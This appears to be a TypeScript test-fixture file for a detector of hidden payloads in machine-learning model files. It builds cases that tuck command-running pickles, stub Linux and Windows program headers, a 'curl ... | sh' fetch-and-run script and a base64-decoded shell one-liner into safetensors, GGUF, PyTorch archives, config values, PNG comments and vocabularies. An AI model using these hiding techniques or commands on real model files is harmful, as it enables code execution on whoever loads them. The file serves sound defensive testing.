import type { DetectCase } from '../case.ts';
import { base64, bin, crc32, hex, u16, u32, u64, zeros } from '../blind/bytes.ts';
import { weights } from '../blind/code.ts';
import { bad, ECHO } from '../blind/make.ts';
import { call, dict, pk, ref } from '../blind/pickle.ts';
import { json } from '../blind/templates.ts';
import { baseKv, eight, four, gguf, kvStr, safetensorsRaw } from '../blind/tensors.ts';
import { legacy, legacyState, npy, floats, stateDict, torchZip } from '../blind/torch.ts';
import { zip } from '../blind/zip.ts';

const payload = (): Uint8Array => pk(call(ref('posix', 'system'), ECHO), 4);
const elf = (): Uint8Array =>
  bin(
    0x7f,
    'ELF',
    hex('020101'),
    zeros(9),
    u16(3),
    u16(62),
    u32(1),
    u64(0),
    u64(64),
    u64(0),
    u32(0),
    u16(64),
    zeros(10),
    'echo pwned',
    zeros(54),
  );
const exe = (): Uint8Array => bin('MZ', zeros(58), u32(64), 'PE\0\0', hex('6486'), zeros(18), 'echo pwned', zeros(32));
const script = '#!/bin/sh\ncurl -s http://127.0.0.1/x | sh\n';
const extra = (data: Uint8Array): Uint8Array => bin(u16(0x7077), u16(data.length), data);

/** A tensor of bytes that holds `data`, beside an ordinary one. */
const bytesTensor = (name: string, data: Uint8Array): Uint8Array =>
  safetensorsRaw(
    JSON.stringify({
      'layer.weight': { dtype: 'F32', shape: [4], data_offsets: [0, 16] },
      [name]: { dtype: 'U8', shape: [data.length], data_offsets: [16, 16 + data.length] },
    }),
    bin(four, data),
  );

const hidden = (
  name: string,
  container: DetectCase['container'],
  title: string,
  build: () => Readonly<Record<string, Uint8Array>>,
): DetectCase => bad('hidden-data', name, container, title, build);

export const hiddenCases: readonly DetectCase[] = [
  hidden('byte-tensor', 'safetensors', 'a tensor of bytes is a Linux program', () => ({
    'model.safetensors': bytesTensor('model.layers.0.mlp.extra', elf()),
  })),
  hidden('pickle-tensor', 'safetensors', 'a tensor of bytes is a pickle that runs a command', () => ({
    'model.safetensors': bytesTensor('state', payload()),
  })),
  hidden('behind-header', 'safetensors', 'behind the closing bracket the header goes on with a script', () => ({
    'model.safetensors': safetensorsRaw(
      JSON.stringify({ a: { dtype: 'F32', shape: [4], data_offsets: [0, 16] } }),
      four,
      { padding: `\n${script}`.padEnd(72, '\n') },
    ),
  })),
  hidden('text-value', 'gguf', 'a text of the metadata is a pickle in base64', () => ({
    'model.gguf': gguf([...baseKv, kvStr('general.description', base64(payload()))], [{ name: 'a' }]),
  })),
  hidden('tail', 'gguf', 'a Windows program follows the last tensor', () => ({
    'model.gguf': gguf(baseKv, [{ name: 'a' }], { trailing: exe() }),
  })),
  hidden('gap', 'gguf', 'a pickle that runs a command lies between two tensors', () => {
    const body = payload();
    const room = Math.ceil(body.length / 32) * 32;
    return {
      'model.gguf': gguf(baseKv, [{ name: 'a' }, { name: 'b', offset: 32 + room }], {
        data: bin(eight, body, zeros(room - body.length), eight),
      }),
    };
  }),
  hidden('archive-comment', 'torch-zip', 'the comment of the archive is a script in base64 with its decoder', () => ({
    'model.pt': torchZip(pk(stateDict(), 2), {
      comment: bin(`echo ${base64(bin(script))} | base64 -d | sh`),
    }),
  })),
  hidden('extra-field', 'torch-zip', 'an extra field of a member is a pickle that runs a command', () => ({
    'model.pt': torchZip(pk(stateDict(), 2), {
      extra: [{ name: 'archive/.data/serialization_id', data: bin('1'), both: { extra: extra(payload()) } }],
    }),
  })),
  hidden(
    'before-directory',
    'torch-zip',
    'a pickle that runs a command lies before the directory of the archive',
    () => ({
      'pytorch_model.bin': torchZip(pk(stateDict(), 2), { beforeCentral: payload() }),
    }),
  ),
  hidden('constant', 'pickle', 'a byte string among honest values is a Linux library', () => ({
    'model.pkl': pk(dict(['weights', [1, 2, 3]], ['kernel', elf()]), 4),
  })),
  hidden('spare-storage', 'torch-zip', 'a storage that no tensor names is a program', () => ({
    'model.pt': torchZip(pk(stateDict(), 2), { storages: { '0': floats, '1': elf() } }),
  })),
  hidden('legacy-tail', 'torch-legacy', 'a pickle that runs a command follows the last storage', () => ({
    'model.pth': bin(legacy(pk(legacyState(), 2)), payload()),
  })),
  hidden('array-tail', 'npz', 'a pickle that runs a command follows the numbers of an array', () => ({
    'mean.npy': bin(npy('<f4', '(4,)', floats), payload()),
  })),
  hidden('config-value', 'repository', 'a value of the configuration is a pickle in base64', () => ({
    'config.json': json({ model_type: 'bert', hidden_size: 4, _quantization_state: base64(payload()) }),
    'model.safetensors': weights(),
  })),
  hidden('picture-text', 'repository', 'a comment inside a picture is a script', () => ({
    'README.md': bin('# tiny\n\n![curve](curve.png)\n'),
    'curve.png': pictureWith(script),
    'model.safetensors': weights(),
  })),
  hidden(
    'archive-in-vocabulary',
    'repository',
    'the vocabulary of words ends in an archive with a hostile pickle',
    () => ({
      'vocab.txt': bin('[PAD]\n[UNK]\nthe\n', zip([{ name: 'model.pkl', data: payload() }])),
      'model.safetensors': weights(),
    }),
  ),
];

/** A picture of one point with a text chunk. */
function pictureWith(text: string): Uint8Array {
  const data = bin('tEXt', 'Comment', 0, text);
  const big = (value: number): Uint8Array => u32(value).toReversed();
  const chunk = bin(big(data.length - 4), data, big(crc32(data)));
  const whole = hex(
    '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082',
  );
  return bin(whole.subarray(0, 33), chunk, whole.subarray(33));
}
